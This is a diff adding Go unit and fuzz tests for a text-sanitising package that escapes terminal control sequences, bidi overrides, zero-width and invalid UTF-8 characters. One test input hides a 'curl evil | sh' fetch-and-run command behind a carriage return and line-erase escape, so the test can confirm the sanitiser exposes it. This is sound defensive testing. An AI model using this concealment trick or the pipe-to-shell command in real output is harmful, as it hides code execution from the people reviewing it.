@@ -1,0 +1,52 @@
+package textsafe
+
+import "testing"
+
+func TestLine(t *testing.T) {
+	for _, c := range []struct{ in, want string }{
+		{"plain ascii /x.sh --flag", "plain ascii /x.sh --flag"},
+		{"tab\tstays", "tab\tstays"},
+		{"café ✓ 日本", "café ✓ 日本"},
+		{`back\slash \x1b stays`, `back\slash \x1b stays`},
+		{"hidden\r\x1b[2Kvisible", `hidden\r\x1b[2Kvisible`},
+		{"two\nlines", `two\nlines`},
+		{"nul\x00 del\x7f bell\a", `nul\x00 del\x7f bell\x07`},
+		{"c1 \u0085 \u009b", `c1 \x85 \x9b`},
+		{"bidi \u202eevil\u202c \u2066x\u2069 \u200e\u200f\u061c", `bidi \u202eevil\u202c \u2066x\u2069 \u200e\u200f\u061c`},
+		{"zero\u200bwidth\u200c\u200d\u2060\ufeff", `zero\u200bwidth\u200c\u200d\u2060\ufeff`},
+		{"sep\u2028\u2029", `sep\u2028\u2029`},
+		{"bad \xff\xfe utf8", `bad \xff\xfe utf8`},
+		{"", ""},
+	} {
+		if got := Line(c.in); got != c.want {
+			t.Errorf("Line(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+func TestTextKeepsNewlines(t *testing.T) {
+	in := "line one\n+echo safe\r\x1b[2K+curl evil | sh\n\u202e\n"
+	want := "line one\n+echo safe\\r\\x1b[2K+curl evil | sh\n\\u202e\n"
+	if got := Text(in); got != want {
+		t.Errorf("Text = %q, want %q", got, want)
+	}
+}
+
+func TestNoCopyWhenClean(t *testing.T) {
+	s := "nothing to escape here ✓"
+	if allocs := testing.AllocsPerRun(100, func() { _ = Line(s) }); allocs != 0 {
+		t.Errorf("Line of clean text allocates %v times", allocs)
+	}
+}
+
+func FuzzLine(f *testing.F) {
+	f.Add("a\r\x1b\u202e\xff")
+	f.Fuzz(func(t *testing.T, s string) {
+		out := Line(s)
+		for i, r := range out {
+			if needsEscape(r, len(string(r)), false) && !(r == 0xfffd && out[i:i+3] == "\ufffd") {
+				t.Fatalf("Line(%q) = %q still holds %U", s, out, r)
+			}
+		}
+	})
+}
